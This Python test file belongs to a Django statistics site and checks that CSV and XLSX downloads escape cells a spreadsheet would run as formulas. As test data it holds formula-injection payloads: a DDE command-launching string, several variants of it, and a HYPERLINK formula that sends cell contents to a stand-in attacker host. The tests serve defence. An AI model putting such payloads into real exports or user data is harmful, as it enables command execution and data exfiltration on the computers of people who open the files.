"""Issue 21, finding 6: no download writes a cell that a spreadsheet would run as a formula.

The issue's values: a street name ``=cmd|' /C calc'!A0``, a police cell ``=HYPERLINK(…)`` and an
indicator unit ``=1+1`` became live formulas in the admin's XLSX exports. Every text beginning with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return is now written as text (CSV: a leading
apostrophe; the figures' XLSX: a string cell with Excel's quote prefix); numbers stay numbers.
"""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from django.conf import settings
from openpyxl import load_workbook

from common.spreadsheets import formula_escaped, formula_risk
from comparisons.models import Indicator
from districts.models import District, StreetRange
from reports import exporters
from reports.models import ReportedOffence
from tests.security.admin_export import admin_export

pytestmark = pytest.mark.django_db

CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://angriber.example/?d="&A1;"Klik")'
SUM = "=1+1"
OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))  # not read-only: the cells' types and styles are wanted
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(cells, *risky: str) -> None:
    """No cell is a formula, and each risky text is there, as text."""
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for value in risky:
        assert value in texts or "'" + value in texts, value


def test_which_texts_are_escaped():
    for value in [CALC, LINK, SUM, *OTHERS, "-", "+45 12 34 56 78", "@"]:
        assert formula_risk(value) and formula_escaped(value) == "'" + value
    for value in ["-3", "-2,5", "+4.25", "-1e3", "Vester", "", "'=1+1", " =1+1", "2016K1", -3, -2.5, None]:
        assert not formula_risk(value) and formula_escaped(value) == value


def test_figure_exports_write_risky_text_as_text_and_numbers_as_numbers():
    table = pd.DataFrame({"district": [CALC, LINK, SUM, *OTHERS, "Vester"],
                          "change": [-3, -2.5, 0, 1, 2, 3, 4, 5, -7],
                          "label": ["-3", "-2,5", "x", "y", "z", "æ", "ø", "å", "=A1"]})
    rows = csv_cells(exporters.to_csv(table))
    # a carriage return is written as a line feed, inside quotes (a lone CR would end the row in Excel)
    assert [r[0] for r in rows[1:]] == ["'" + v.replace("\r", "\n") for v in [CALC, LINK, SUM, *OTHERS]] + ["Vester"]
    assert [r[1] for r in rows[1:]] == ["-3.0", "-2.5", "0.0", "1.0", "2.0", "3.0", "4.0", "5.0", "-7.0"]
    assert [r[2] for r in rows[1:]] == ["-3", "-2,5", "x", "y", "z", "æ", "ø", "å", "'=A1"]

    book = load_workbook(io.BytesIO(exporters.to_xlsx(table, sheet="data")))
    sheet = book.active
    for row, value in enumerate([CALC, LINK, SUM, *OTHERS], start=2):
        cell = sheet.cell(row, 1)
        # the text exactly as it is, as a string cell Excel shows and never evaluates
        assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True)
    assert sheet.cell(10, 1).quotePrefix is False
    assert [sheet.cell(r, 2).value for r in range(2, 11)] == [-3, -2.5, 0, 1, 2, 3, 4, 5, -7]
    assert {sheet.cell(r, 2).data_type for r in range(2, 11)} == {"n"}
    assert (sheet.cell(10, 3).value, sheet.cell(10, 3).data_type) == ("=A1", "s")


def test_a_figure_download_of_a_district_named_as_a_formula(town, client, django_user_model):
    District.objects.filter(name="Lund").update(name=CALC)
    District.objects.filter(name="Øster").update(name=SUM)
    client.force_login(django_user_model.objects.create_superuser("root", password="x-kode-1234"))
    url = "/kommune/165/figur/reports-per-1000.{}?period_from=2016&period_to=2016"
    rows = csv_cells(client.get(url.format("csv")).content)
    districts = [r[1] for r in rows[1:]]
    assert "'" + CALC in districts and "'" + SUM in districts and CALC not in districts
    cells = xlsx_cells(client.get(url.format("xlsx")).content)
    assert_no_formula(cells, CALC, SUM)
    assert {c.value for c in cells if c.quotePrefix} == {CALC, SUM}


def test_import_export_escaping_is_on():
    assert settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT is True


def test_admin_exports_write_the_issues_values_as_text(town, client, django_user_model):
    vester = District.objects.get(name="Vester")
    StreetRange.objects.create(municipality=vester.municipality, district=vester, street_name=CALC, postcode="2620")
    municipality = vester.municipality
    municipality.police_district = LINK
    municipality.save()
    Indicator.objects.create(municipality=municipality, name="@SUM(1+1)", measure="metric:Andel utrygge", unit=SUM,
                             baseline_value=-3.5, baseline_year=2016, target_value=-10, target_year=2020)
    ReportedOffence.objects.filter(journal_number="V1").update(address=OTHERS[0], code_text=OTHERS[3])
    client.force_login(django_user_model.objects.create_superuser("root", password="x-kode-1234"))
    cases = [("/admin/districts/streetrange/", [CALC]), ("/admin/districts/municipality/", [LINK]),
             ("/admin/comparisons/indicator/", [SUM, "@SUM(1+1)"]),
             ("/admin/reports/reportedoffence/", [OTHERS[0], OTHERS[3]])]
    for changelist, values in cases:
        rows = csv_cells(admin_export(client, changelist, "csv"))
        cells = {cell for row in rows for cell in row}
        for value in values:
            assert "'" + value in cells and value not in cells, (changelist, value)
        assert_no_formula(xlsx_cells(admin_export(client, changelist, "xlsx")), *values)
    indicator = csv_cells(admin_export(client, "/admin/comparisons/indicator/", "csv"))
    assert indicator[1][6:9] == ["-3,5", "2016", "-10,0"]  # numbers (Danish notation) are not prefixed


def test_a_comparison_download_of_a_municipality_named_as_a_formula(reference, client, django_user_model):
    import datetime as dt

    from comparisons.models import DstValue
    from districts.models import Municipality, PopulationCount
    from tests.test_dst import load

    load("STRAF11_api_da.csv")
    albertslund = Municipality.objects.get(code="165")
    PopulationCount.objects.create(municipality=albertslund, date=dt.date(2016, 7, 1), count=25000)
    DstValue.objects.create(table="FOLK1A", area_code="000", dims="", period="2016K3", value=5_000_000)
    Municipality.objects.filter(code="165").update(name=SUM)
    client.force_login(django_user_model.objects.create_superuser("root", password="x-kode-1234"))
    url = "/kommune/165/sammenligning.{}?period_from=2016&period_to=2016&category=1320&peers=000"
    rows = csv_cells(client.get(url.format("csv")).content)
    assert [r[1:3] for r in rows[1:] if r[1] == "165"] == [["165", "'" + SUM]]
    assert [r[6] for r in rows[1:] if r[1] == "165"] == ["4.0"]  # 100 / 25,000 × 1,000, a number
    cells = xlsx_cells(client.get(url.format("xlsx")).content)
    assert_no_formula(cells, SUM)
    # the data sheet's name, and the "Om tallene" sheet's municipality line, both as text
    assert [c.value for c in cells if c.quotePrefix] == [SUM, SUM + " (165)"]
